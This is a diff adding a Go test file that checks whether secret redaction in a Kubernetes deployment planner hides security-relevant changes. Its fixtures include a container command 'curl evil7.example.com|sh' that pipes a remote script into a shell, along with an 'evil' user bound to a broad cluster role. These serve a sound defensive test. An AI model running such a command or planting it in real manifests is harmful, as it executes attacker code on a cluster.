@@ -1,0 +1,70 @@
+package maskguard
+
+import (
+	"fmt"
+	"slices"
+	"strings"
+	"testing"
+
+	"hawser.dev/hawser/internal/object"
+	"hawser.dev/hawser/internal/plan"
+	"hawser.dev/hawser/internal/redact"
+)
+
+// Whoever writes a Secret that one instance takes chooses it so that it equals what another instance runs and who gets rights there:
+// all of that is shown, in fields and in whole content; what is hidden elsewhere is told with its place.
+func TestOthersSecretsHideNothingThatMatters(t *testing.T) {
+	const image, eve, all, command = "registry.example.com/pay7x1:2.1.0", "eve-9f8xkq@evil.example.com", "tenant-adm1n-all", "curl evil7.example.com|sh"
+	m := &redact.Redactor{}
+	for _, secret := range []string{image, eve, all, command, image + "\n" + eve + "\n" + all} {
+		m.AddFor("note", secret)
+	}
+	deployment := object.Object{Instance: "pay", Body: map[string]any{"apiVersion": "apps/v1", "kind": "Deployment", "metadata": map[string]any{"name": "d", "namespace": "x"},
+		"spec": map[string]any{"template": map[string]any{"spec": map[string]any{"containers": []any{map[string]any{"name": "a", "image": image, "command": []any{"sh", command}}}}}}}}
+	binding := object.Object{Instance: "pay", Body: map[string]any{"apiVersion": "rbac.authorization.k8s.io/v1", "kind": "ClusterRoleBinding", "metadata": map[string]any{"name": "b"},
+		"roleRef": map[string]any{"kind": "ClusterRole", "name": all}, "subjects": []any{map[string]any{"kind": "User", "name": eve}}}}
+	p := plan.Plan{}
+	bodies := map[object.Ref]object.Object{}
+	for _, o := range []object.Object{deployment, binding} {
+		marked := o.MarkSecrets(func(text string) string { return m.Value("pay", text) }, func(text string) string { return m.Own("pay", text) }, func(key string) bool { return m.Redact(key) != key })
+		before := object.Object{Body: map[string]any{"apiVersion": o.Body["apiVersion"], "kind": o.Body["kind"], "metadata": o.Body["metadata"],
+			"spec":    map[string]any{"template": map[string]any{"spec": map[string]any{"containers": []any{map[string]any{"name": "a", "image": "old", "command": []any{"sh", "old"}}}}}},
+			"roleRef": map[string]any{"kind": "ClusterRole", "name": "view"}, "subjects": []any{map[string]any{"kind": "User", "name": "ops@example.com"}}}}
+		p.Changes = append(p.Changes, plan.Change{Ref: o.Ref(), Action: plan.Update, Instance: "pay", Content: marked.Masked(m.Redact, object.AsNamed, object.AsNamed, object.AsNamed),
+			Fields: plan.FieldChanges(marked, before.Body, o.Body, m.Redact, object.Setters{})})
+		bodies[o.Ref()] = marked
+	}
+	found := Others(&p, bodies, m)
+	plan.Redact(&p, m)
+	shown := fmt.Sprint(p.Changes[0].Fields, p.Changes[1].Fields)
+	whole := fmt.Sprint(p.Changes[0].Content, p.Changes[1].Content)
+	for _, text := range []string{image, eve, all} {
+		if !strings.Contains(shown, text) || !strings.Contains(whole, text) {
+			t.Errorf("%s is hidden in\n%s\nor\n%s", text, shown, whole)
+		}
+	}
+	if strings.Contains(shown+whole, command) {
+		t.Errorf("an unmistakable secret is shown where one may stand:\n%s\n%s", shown, whole)
+	}
+	if len(found) != 1 || found[0].Code != "hidden-by-others" || found[0].Instance != "pay" || !strings.Contains(found[0].Why, "Deployment x/d spec.template.spec.containers[name=\"a\"].command[1]") {
+		t.Errorf("it is told as %v", found)
+	}
+	if found := Others(&p, bodies, redact.New()); found != nil {
+		t.Errorf("nothing is secret, and told is %v", found)
+	}
+	mine := &redact.Redactor{}
+	mine.AddFor("pay", command)
+	if found := Others(&p, bodies, mine); found != nil {
+		t.Errorf("it takes the secret itself, and told is %v", found)
+	}
+}
+
+// TestShown: of a plan's fields those are shown that are never secret, as they are declared and as they are live.
+func TestShown(t *testing.T) {
+	web := object.Ref{Group: "argoproj.io", Kind: "Rollout", Name: "web"}
+	p := &plan.Plan{Changes: []plan.Change{{Ref: web, Fields: []plan.FieldChange{{Path: "spec.template.spec.containers[web].image", Old: "a:1", New: "a:2"},
+		{Path: "spec.template.spec.containers[web].env[PW].value", Old: "x", New: "y"}}}}}
+	if got := Shown(p); !slices.Equal(got, []string{"a:1", "a:2"}) {
+		t.Errorf("%q", got)
+	}
+}
